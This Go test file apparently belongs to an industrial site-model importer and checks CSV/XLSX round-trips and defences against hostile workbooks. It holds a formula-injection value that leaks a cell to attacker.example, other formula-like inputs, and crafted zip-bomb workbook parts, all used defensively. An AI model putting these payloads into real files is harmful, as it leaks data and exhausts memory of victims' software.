package importers

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/otimpact/otimpact/graph"
	"github.com/xuri/excelize/v2"
)

// sameModel compares models as read, leaving out where each element was
// read from and the warnings (compared by located text instead).
var sameModel = cmp.Options{
	cmpopts.IgnoreUnexported(graph.Model{}),
	cmpopts.IgnoreFields(graph.Model{}, "Source", "Warnings"),
	cmpopts.IgnoreFields(graph.SheetStat{}, "File"),
	cmp.FilterPath(func(p cmp.Path) bool {
		sf, ok := p.Last().(cmp.StructField)
		return ok && sf.Name() == "Src"
	}, cmp.Ignore()),
}

// trickySite is a synthetic site with the values that are easy to get wrong
// on the way out and back in.
func trickySite(n int) *graph.Model {
	m := syntheticSite(n)
	m.Assets = append(m.Assets,
		graph.Asset{ID: "=HYPERLINK(\"http://x\",\"y\")", Name: "=1+1", Kind: "Pump Skid", Zones: []string{"L3", "DMZ"},
			Owner: "Vendör \"A\"", Safety: true, Tags: []string{"sis", "critical"},
			Attrs: map[string]string{"Notes": "two\nlines", "@cmd": "+SUM(A1)", "Zones": "kept"}})
	m.Dependencies = append(m.Dependencies, graph.Dependency{Consumer: "DMZ-HIST", Providers: []string{"HIST-01", "SCADA-1", "SCADA-2"},
		Service: "data", Need: 2, GraceMS: 86400e3 + 12*3600e3 + 1500, Attrs: map[string]string{"Ticket": "CHG-1"}})
	m.Feeds = append(m.Feeds, graph.Feed{ID: "F-DMZ", Source: []string{"SCADA-1", "SCADA-2"},
		Via: [][]string{{"HIST-01"}, {"DIODE-01"}}, To: []string{"DMZ-HIST"}, Kind: graph.FeedControl, Safety: true})
	return m
}

func TestWrittenCSVAndXLSXReadBackToTheModel(t *testing.T) {
	orig := trickySite(200)
	if errs := orig.Resolve(false); len(errs) > 0 {
		t.Fatalf("synthetic site does not resolve:\n%v", errs)
	}
	dir := filepath.Join(t.TempDir(), "site")
	if err := WriteCSVDir(orig, dir); err != nil {
		t.Fatal(err)
	}
	fromCSV, err := Load(dir, Options{})
	if err != nil {
		t.Fatalf("reading the CSV files written:\n%v", err)
	}
	path := filepath.Join(t.TempDir(), "site.xlsx")
	if err := WriteXLSX(fromCSV, path); err != nil {
		t.Fatal(err)
	}
	fromXLSX, err := Load(path, Options{})
	if err != nil {
		t.Fatalf("reading the workbook written:\n%v", err)
	}
	ignoreStats := cmpopts.IgnoreFields(graph.Model{}, "Sheets")
	if diff := cmp.Diff(orig, fromCSV, sameModel, ignoreStats); diff != "" {
		t.Errorf("model → CSV → model (-want +got):\n%s", diff)
	}
	// The workbook's sheets have the canonical names, the files lower case.
	if diff := cmp.Diff(fromCSV, fromXLSX, sameModel, cmpopts.IgnoreFields(graph.SheetStat{}, "Sheet")); diff != "" {
		t.Errorf("CSV → XLSX → model (-csv +xlsx):\n%s", diff)
	}
	lower := cmpopts.AcyclicTransformer("lower", strings.ToLower)
	if diff := cmp.Diff(locatedAll(fromCSV.Warnings), locatedAll(fromXLSX.Warnings), lower); diff != "" {
		t.Errorf("warnings (-csv +xlsx):\n%s", diff)
	}
	// The files written are canonical: writing again gives the same bytes.
	dir2 := filepath.Join(t.TempDir(), "again")
	if err := WriteCSVDir(fromXLSX, dir2); err != nil {
		t.Fatal(err)
	}
	for _, sc := range schemas {
		a, errA := os.ReadFile(filepath.Join(dir, sc.fileName()))
		b, errB := os.ReadFile(filepath.Join(dir2, sc.fileName()))
		if errA != nil || errB != nil || !bytes.Equal(a, b) {
			t.Errorf("%s differs when written again (%v, %v)", sc.fileName(), errA, errB)
		}
	}
}

func TestACSVFolderAndAWorkbookOfTheSameContentLoadTheSame(t *testing.T) {
	s := site{
		"Asset Register.csv": "Plant X,,,,\nAsset ID,Type,Zone,Safety,Serial\nHMI-01,HMI,L2,,S1\nSIS-01,safety PLC,L1,yes,\nDC-01,DC,L3,,\nFW-01,firewall,L2|L1,,\n",
		"zones.csv":          "id,level\nL1,1\nL2,L2\nL3,Level 3\n",
		"conduits.csv":       "from,to,via,direction\nL1,L2,FW-01,\n",
		"dependencies.csv":   "Asset,Depends On,Tolerance\nHMI-01,DC-01,1d12h\n",
		"Flows.csv":          "Flow,From,Hops,Consumers,safety\nF-SIS,SIS-01,FW-01 -> DC-01,HMI-01,x\n",
		"scenarios.csv":      "scenario,action,target\nS,isolate,zone:L3\n",
	}
	fromCSV := mustLoad(t, formats[0].read, s)
	fromXLSX := mustLoad(t, formats[1].read, s)
	if diff := cmp.Diff(fromCSV, fromXLSX, sameModel); diff != "" {
		t.Errorf("(-csv +xlsx):\n%s", diff)
	}
	if diff := cmp.Diff(locatedAll(fromCSV.Warnings), locatedAll(fromXLSX.Warnings)); diff != "" {
		t.Errorf("warnings (-csv +xlsx):\n%s", diff)
	}
}

func TestWriteXLSXNeverWritesAFormula(t *testing.T) {
	const evil = `=HYPERLINK("http://attacker.example/?leak="&A1,"click")`
	m := &graph.Model{Assets: []graph.Asset{{ID: "HMI-01", Name: evil, Attrs: map[string]string{"Notes": "=1+1", "Cmd": "@SUM(1)"}}}}
	path := filepath.Join(t.TempDir(), "site.xlsx")
	if err := WriteXLSX(m, path); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Assets")
	if err != nil {
		t.Fatal(err)
	}
	for r, row := range rows {
		for c := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if formula, err := f.GetCellFormula("Assets", cell); err != nil || formula != "" {
				t.Errorf("cell %s has formula %q (%v)", cell, formula, err)
			}
		}
	}
	back, err := Load(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if a := back.Assets[0]; a.Name != evil || a.Attrs["Notes"] != "=1+1" {
		t.Errorf("read back name %q, notes %q", a.Name, a.Attrs["Notes"])
	}
}

// workbookParts are the parts of a minimal workbook with one sheet, Assets.
func workbookParts(sheetXML string) map[string]string {
	const rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	return map[string]string{
		"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
		"_rels/.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="` + rels + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml": `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + rels + `">` +
			`<sheets><sheet name="Assets" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="` + rels + `/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
		"xl/worksheets/sheet1.xml": `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` +
			sheetXML + `</sheetData></worksheet>`,
	}
}

// rawPart is a zip entry written as is, with the sizes it declares.
type rawPart struct {
	name       string
	compressed []byte // deflated
	declared   uint64 // uncompressed size declared
}

// craftWorkbook writes a workbook's parts with archive/zip, then the raw
// parts, and returns the bytes.
func craftWorkbook(t testing.TB, parts map[string]string, raw ...rawPart) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml"} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(parts[name]))
	}
	for _, r := range raw {
		w, err := zw.CreateRaw(&zip.FileHeader{Name: r.name, Method: zip.Deflate,
			CompressedSize64: uint64(len(r.compressed)), UncompressedSize64: r.declared})
		if err != nil {
			t.Fatal(err)
		}
		w.Write(r.compressed)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// zeros deflates n zero bytes: a small part that inflates to n bytes.
func zeros(t testing.TB, n int) []byte {
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, flate.BestSpeed)
	chunk := make([]byte, 1<<20)
	for n > 0 {
		k := min(n, len(chunk))
		w.Write(chunk[:k])
		n -= k
	}
	w.Close()
	return buf.Bytes()
}

func TestHostileWorkbooksGiveAClearErrorQuickly(t *testing.T) {
	cell := func(ref, v string) string { return `<c r="` + ref + `" t="inlineStr"><is><t>` + v + `</t></is></c>` }
	valid := craftWorkbook(t, workbookParts(`<row r="1">`+cell("A1", "id")+`</row><row r="2">`+cell("A2", "HMI-01")+`</row>`))
	if _, err := ReadXLSX(writeBytes(t, "valid.xlsx", valid), Options{}); err != nil {
		t.Fatalf("the crafted workbook itself does not read: %v", err)
	}
	tests := []struct {
		name string
		data func() []byte
		want string
	}{
		{"an empty file", func() []byte { return nil }, "not an .xlsx workbook: not a zip archive"},
		{"a text file", func() []byte { return []byte("id,kind\nHMI-01,HMI\n") }, "not an .xlsx workbook: not a zip archive"},
		{"a truncated workbook", func() []byte { return valid[:len(valid)/2] }, "not an .xlsx workbook: not a zip archive, or a truncated one"},
		{"a workbook missing its last byte", func() []byte { return valid[:len(valid)-1] }, "not an .xlsx workbook"},
		{"a row number past Excel's last row", func() []byte {
			return craftWorkbook(t, workbookParts(`<row r="1">`+cell("A1", "id")+`</row><row r="2000000">`+cell("A2000000", "X")+`</row>`))
		}, "Assets: row number past Excel's limit of 1,048,576"},
		{"a part that declares it inflates past the limit", func() []byte {
			return craftWorkbook(t, workbookParts(""), rawPart{"xl/styles.xml", zeros(t, 1000), 3 << 30})
		}, "part xl/styles.xml inflates past the limit of 1024 MiB"},
		{"a worksheet that declares it inflates past the limit", func() []byte {
			return craftWorkbook(t, workbookParts(""), rawPart{"xl/worksheets/sheet2.xml", zeros(t, 1000), 1<<30 + 1})
		}, "part xl/worksheets/sheet2.xml inflates past the limit of 1024 MiB"},
		{"a part that inflates past what is held in memory", func() []byte {
			return craftWorkbook(t, workbookParts(""), rawPart{"xl/styles.xml", zeros(t, 80<<20), 80 << 20})
		}, "part xl/styles.xml inflates past the limit of 64 MiB"},
		{"a part that inflates far past the size it declares", func() []byte {
			return craftWorkbook(t, workbookParts(`<row r="1">`+cell("A1", "id")+`</row>`), rawPart{"xl/styles.xml", zeros(t, 50<<20), 100})
		}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := writeBytes(t, "site.xlsx", tt.data())
			start := time.Now()
			m, err := Load(path, Options{})
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("took %v", d)
			}
			if m == nil {
				t.Fatal("no model returned")
			}
			if tt.want == "" {
				t.Logf("answer: %v", err) // any answer will do, as long as it comes quickly
				return
			}
			got := problems(t, err)
			if len(got) == 0 || got[0].File != path || !strings.HasPrefix(located(got[0]), tt.want) {
				t.Errorf("got\n%v\nwant a problem on %s starting %q", err, path, tt.want)
			}
		})
	}
}

func TestRowsWithoutNumbersPastExcelsLastRowAreRefused(t *testing.T) {
	if testing.Short() {
		t.Skip("writes a sheet of a million rows")
	}
	var sheet strings.Builder
	sheet.WriteString(`<row><c t="inlineStr"><is><t>id</t></is></c></row>`)
	sheet.WriteString(strings.Repeat("<row/>", excelMaxRows))
	path := writeBytes(t, "site.xlsx", craftWorkbook(t, workbookParts(sheet.String())))
	start := time.Now()
	_, err := Load(path, Options{})
	got := problems(t, err)
	if len(got) != 1 || located(got[0]) != "Assets: "+tooManyRows {
		t.Errorf("got %v", err)
	}
	t.Logf("took %v", time.Since(start))
}

func writeBytes(t testing.TB, name string, data []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestWorkbookSheetsAreMatchedLikeCSVFiles(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	f.SetSheetName("Sheet1", "Read me")
	for _, name := range []string{"Asset Inventory", "Data Flows", "Notes"} {
		f.NewSheet(name)
	}
	f.SetSheetRow("Read me", "A1", &[]any{"This workbook is the site model."})
	f.SetSheetRow("Asset Inventory", "A3", &[]any{"Asset Tag", "Device Type", "Purdue"})
	f.SetSheetRow("Asset Inventory", "A4", &[]any{"PLC-01", "PLC", 1})
	f.SetSheetRow("Asset Inventory", "A5", &[]any{"HMI-01", "HMI", 2})
	f.SetSheetRow("Data Flows", "A1", &[]any{"id", "source", "to"})
	f.SetSheetRow("Data Flows", "A2", &[]any{"F-1", "PLC-01", "HMI-01"})
	path := filepath.Join(t.TempDir(), "site.xlsx")
	if err := f.SaveAs(path); err != nil {
		t.Fatal(err)
	}
	m, err := Load(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	checkAssetIDs(t, m, "PLC-01", "HMI-01")
	if a := m.Assets[0]; a.Attrs["Purdue"] != "1" || a.Src.Row != 4 || a.Src.Sheet() != "Asset Inventory" || a.Src.File() != path {
		t.Errorf("asset = %+v", a)
	}
	if len(m.Feeds) != 1 {
		t.Errorf("feeds = %+v", m.Feeds)
	}
	wantProblems(t, "warnings", m.Warnings, []string{`Notes: not a sheet of the model`, `Read me: not a sheet of the model`})
}

func TestAnEmptyModelIsWrittenAsAnEmptyAssetRegister(t *testing.T) {
	dir := t.TempDir()
	// A sheet left by an earlier write must not come back.
	if err := WriteCSVDir(syntheticSite(50), dir); err != nil {
		t.Fatal(err)
	}
	if err := WriteCSVDir(&graph.Model{}, dir); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "empty.xlsx")
	if err := WriteXLSX(&graph.Model{}, path); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{dir, path} {
		m, err := Load(p, Options{})
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if len(m.Assets)+len(m.Zones)+len(m.Conduits)+len(m.Dependencies)+len(m.Feeds)+len(m.Scenarios) != 0 || len(m.Sheets) != 1 {
			t.Errorf("%s: read back %+v", p, m)
		}
	}
}
